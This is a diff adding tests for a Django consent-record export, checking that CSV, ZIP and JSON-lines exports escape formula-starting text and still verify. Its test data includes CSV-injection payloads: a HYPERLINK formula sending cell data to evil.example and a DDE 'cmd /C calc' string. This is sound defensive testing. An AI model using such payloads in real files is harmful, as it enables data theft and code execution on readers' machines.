@@ -14,9 +14,18 @@ from django.core.management.base import CommandError
 from django.db import connection
 from django.http import StreamingHttpResponse
 from django.utils import translation
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
 
 from consent import export
-from consent.exportproof import check_export, verify_export
+from consent.exportproof import (
+    FORMULA_STARTS,
+    check_export,
+    escape_cell,
+    unescape_cell,
+    verify_export,
+)
 from consent.integration import integrate
 from consent.log import store
 from consent.log.models import LogLeaf
@@ -606,3 +615,197 @@ def test_bad_proof_parameters_are_a_clear_400(auditor_client, log, query, messag
 
     assert response.status_code == 400
     assert message in response.content.decode()
+
+
+# Spreadsheets: text a visitor sent runs no formula, and the export still verifies
+
+# What a visitor can make a path or a user agent begin with, or hold after a separator.
+HOSTILE_TEXT = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "'already quoted",
+    "/a;=1+1",
+    "/a,=1+1",
+    '/a\t@x\r+y\n-z,"=w";\'v',
+    "Mozilla/5.0 (X11; Linux x86_64; rv:133) Gecko Firefox/133 ;-)",
+    "''",
+]
+
+
+def starts_a_formula(text):
+    """Return whether a spreadsheet could take any part of a cell's text for a formula: its
+    start, or what follows a separator or a line break it may split the cell on."""
+    pieces = re.split(r"[,;\t\r\n]", text)
+    return any(piece[:1] in tuple("=+-@\t\r\n") for piece in [text, *pieces])
+
+
+def hostile_records():
+    records = [make_record(path=f"/{n}", user_agent=text) for n, text in enumerate(HOSTILE_TEXT)]
+    records += [make_record(path=text) for text in HOSTILE_TEXT]
+    integrate()
+    return [ConsentRecord.objects.select_related("policy_version").get(pk=r.pk) for r in records]
+
+
+def assert_no_cell_starts_a_formula(text):
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == list(export.COLUMNS)
+    for row in rows[1:]:
+        for cell in row:
+            assert not starts_a_formula(cell), cell
+
+
+def test_a_hostile_path_or_user_agent_begins_no_formula_in_the_commands_csv(tmp_path):
+    records = hostile_records()
+    assert any(starts_a_formula(r.user_agent) for r in records)  # stored as the visitor sent it
+    path = exported_file(tmp_path, "csv")
+
+    text = path.read_bytes().decode()  # CR as it is, not read as a line end
+
+    assert_no_cell_starts_a_formula(text)
+    check = check_export(path, store.verifier())
+    assert check.problems == []
+    assert check.proved == len(records)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [unescape_cell(row["user_agent"]) for row in rows] == [r.user_agent for r in records]
+    assert [unescape_cell(row["path"]) for row in rows] == [r.path for r in records]
+
+
+def test_a_hostile_path_or_user_agent_begins_no_formula_in_the_web_csv(auditor_client, tmp_path):
+    records = hostile_records()
+    response = auditor_client.get("/audit/consents.csv")
+    csv_path = tmp_path / "download.csv"
+    csv_path.write_bytes(b"".join(response.streaming_content))
+    link = response["Link"]
+    proof = auditor_client.get(link[1 : link.index(">")])
+    (tmp_path / "download.csv.proof.json").write_bytes(b"".join(proof.streaming_content))
+
+    assert_no_cell_starts_a_formula(csv_path.read_bytes().decode())
+    # The command and the web write the same cells.
+    assert read_csv(csv_path.read_bytes().decode()) == read_csv(run_export("--format", "csv")[0])
+    check = check_export(csv_path, store.verifier())
+    assert (check.problems, check.proved) == ([], len(records))
+
+
+def test_a_hostile_path_or_user_agent_begins_no_formula_in_the_admins_zip(admin_client, tmp_path):
+    import zipfile
+
+    records = hostile_records()
+    response = admin_client.post(
+        "/admin/consent/consentrecord/",
+        {"action": "export_csv", "_selected_action": [r.pk for r in records], "index": 0},
+    )
+    path = tmp_path / "export.zip"
+    path.write_bytes(b"".join(response.streaming_content))
+
+    archive = zipfile.ZipFile(path)
+    assert_no_cell_starts_a_formula(archive.read(archive.namelist()[0]).decode())
+    check = check_export(path, store.verifier())
+    assert (check.problems, check.proved) == ([], len(records))
+
+
+def test_json_lines_carry_hostile_text_as_it_is_and_verify(auditor_client, tmp_path):
+    records = hostile_records()
+    path = tmp_path / "download.jsonl"
+    path.write_bytes(b"".join(auditor_client.get("/audit/consents.jsonl").streaming_content))
+
+    rows = read_jsonl(path.read_bytes().decode())
+
+    assert [row["user_agent"] for row in rows] == [r.user_agent for r in records]
+    assert [row["path"] for row in rows] == [r.path for r in records]
+    assert verify_export(path, store.verifier()) == []
+
+
+def test_an_escaped_cell_edited_to_mean_something_else_fails(tmp_path):
+    hostile_records()
+    path = exported_file(tmp_path, "csv")
+
+    def unquote(rows):
+        rows[0]["user_agent"] = rows[0]["user_agent"][1:]  # '=HYPERLINK… made =HYPERLINK…
+        return rows
+
+    edit_rows(path, unquote)
+
+    assert "do not make the root" in verify_export(path, store.verifier())[0]
+
+
+@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n,; a/\"é")))
+@hypothesis_settings(max_examples=200, derandomize=True, database=None)
+def test_escaping_begins_no_formula_and_is_undone_exactly(text):
+    escaped = escape_cell(text)
+
+    assert not starts_a_formula(escaped)
+    assert unescape_cell(escaped) == text
+    assert escaped == text or any(c in text for c in FORMULA_STARTS)
+
+
+@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n,; a/\"é\\&")))
+@hypothesis_settings(
+    max_examples=100,
+    derandomize=True,
+    database=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture],
+)
+def test_postgresql_escapes_exactly_as_the_offline_tool_unescapes(text):
+    with connection.cursor() as cursor:
+        cursor.execute(f"SELECT regexp_replace(%s, {export._FORMULA_START}, '''', 'g')", [text])
+        (escaped,) = cursor.fetchone()
+
+    assert escaped == escape_cell(text)
+
+
+# Filters that match nothing, as Django knows without asking the database
+
+
+def test_a_filter_beyond_its_columns_range_exports_nothing_and_verifies(log, tmp_path):
+    for fmt in ("csv", "jsonl"):
+        queryset = ConsentRecord.objects.filter(policy_version__id=2**63)  # no SQL for it
+        path = tmp_path / f"nothing.{fmt}"
+        path.write_bytes(b"".join(export.streaming_response(queryset, fmt, path.name, "/p")))
+
+        check = check_export(path, store.verifier()) if fmt == "jsonl" else None
+        assert len(path.read_text().splitlines()) == 1  # the header, or the proof
+        if check is not None:
+            assert (check.problems, check.rows) == ([], 0)
+
+
+def test_a_proof_of_no_record_when_django_knows_the_filter_matches_none(auditor_client, log):
+    proof = export.proof_response(ConsentRecord.objects.none(), store.latest(), "x.json")
+
+    assert json.loads(b"".join(proof.streaming_content))["records"] == 0
+
+
+@pytest.mark.parametrize(
+    ("url", "query", "message"),
+    [
+        ("/audit/consents.csv", {"policy_version": str(2**31)}, "policy_version: Ensure this"),
+        ("/audit/consents.jsonl", {"policy_version": "9" * 30}, "policy_version: Ensure this"),
+        ("/audit/consents.csv.proof.json", {"size": str(2**63)}, "size: Ensure this value"),
+        ("/audit/consents.csv.proof.json", {"policy_version": str(2**63)}, "policy_version:"),
+    ],
+)
+def test_numbers_beyond_the_columns_are_a_clear_400(auditor_client, log, url, query, message):
+    response = auditor_client.get(url, query)
+
+    assert response.status_code == 400
+    assert message in response.content.decode()
+
+
+def test_the_command_refuses_a_policy_version_beyond_the_column():
+    with pytest.raises(CommandError, match="--policy-version: Ensure this value is less than"):
+        run_export("--policy-version", str(2**31))
+
+
+def test_the_documented_escaping_examples_hold():
+    text = DOCS.read_text(encoding="utf-8")
+    table = text[text.index("| recorded | in the CSV |") :].split("\n\n")[0]
+    examples = re.findall(r"^\| `([^`]*)` \| `([^`]*)` \|$", table, re.MULTILINE)
+
+    assert len(examples) == 4
+    for recorded, shown in examples:
+        assert (escape_cell(recorded), unescape_cell(shown)) == (shown, recorded)
+    assert escape_cell("\t=1+1") == "'\t'=1+1"  # the row with a tab
